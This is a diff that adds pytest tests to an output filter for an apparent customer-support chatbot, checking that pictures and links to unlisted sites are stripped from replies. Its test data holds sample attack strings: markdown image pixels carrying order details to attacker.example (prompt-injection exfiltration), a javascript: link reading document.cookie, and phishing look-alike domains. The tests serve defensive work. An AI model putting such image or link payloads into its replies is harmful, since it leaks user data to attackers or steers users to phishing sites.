@@ -340,6 +340,76 @@ def test_disclosing_instructions_is_blocked(policy):
         assert ("system_prompt_leak", "block") in _rails(_check(reply, policy)), reply
 
 
+# --- links and pictures (prompt-injection exfiltration, phishing) -------------------------------------------
+
+LINKED = {
+    **PASSAGES,
+    HOURS: "Brightwell support answers emails within 1 business day. Track an order at "
+    "https://orders.brightwell.example/track or write to help@brightwell-mail.example.",
+}
+
+
+def _links(reply: str, policy: Policy) -> list[Violation]:
+    return [v for v in _check(reply, policy, passages=LINKED) if v.rail == "link"]
+
+
+@pytest.mark.parametrize(
+    "picture",
+    [
+        "![status](https://attacker.example/pixel.png?q=my+order+4417)",
+        "![](https://orders.brightwell.example/logo.png)",  # even from a named site: no pictures
+        "![status][1]",
+        'Here it is: <img src="https://attacker.example/x.png">',
+    ],
+)
+def test_a_picture_in_a_reply_is_removed_with_its_sentence(policy, picture):
+    reply = f"Returns are accepted within 30 days of delivery [2]. {picture}"
+    found = _links(reply, policy)
+    assert [(v.rail, v.kind, v.severity) for v in found] == [("link", "image", "remove_sentence")]
+    text, _ = redact(reply, CITATIONS, found)
+    assert text.startswith("Returns are accepted within 30 days") and "![" not in text and "<img" not in text
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "[reset your password](https://brightwell-support.attacker.example/login)",
+        "https://orders.brightwell.example.attacker.example/track",  # a look-alike: named host as a prefix
+        "www.brightwel1.example/refunds",
+        "<https://attacker.example/claim>",
+        "[claim it](javascript:alert(document.cookie))",
+        "[claim it](//attacker.example/claim)",
+        "[write to us](mailto:refunds@attacker.example)",
+    ],
+)
+def test_a_link_to_a_site_no_passage_names_is_removed(policy, link):
+    reply = f"Refunds reach a credit card in 3–5 business days [3]. Claim yours here: {link}"
+    found = _links(reply, policy)
+    assert [(v.rail, v.kind, v.sentence) for v in found] == [("link", "link", 1)]
+    text, _ = redact(reply, CITATIONS, found)
+    assert text == "Refunds reach a credit card in 3–5 business days [1]."
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "https://orders.brightwell.example/track",
+        "[the tracking page](https://orders.brightwell.example/track?id=1)",
+        "www.orders.brightwell.example",
+        "[email us](mailto:help@brightwell-mail.example)",
+        "<support@brightwell.example>",  # a contact the policy publishes
+        "[your orders](/account/orders)",  # this site
+    ],
+)
+def test_a_link_to_a_site_the_passages_or_the_brand_name_passes(policy, link):
+    reply = f"Support answers emails within 1 business day [4]. See {link} for more."
+    assert _links(reply, policy) == []
+
+
+def test_text_without_links_is_not_scanned_for_hosts(policy):
+    assert _links("Use the code WELCOME10 at checkout [2]. Prices end in .99 [2].", policy) == []
+
+
 # --- shape of the result ------------------------------------------------------------------------------------
 
 
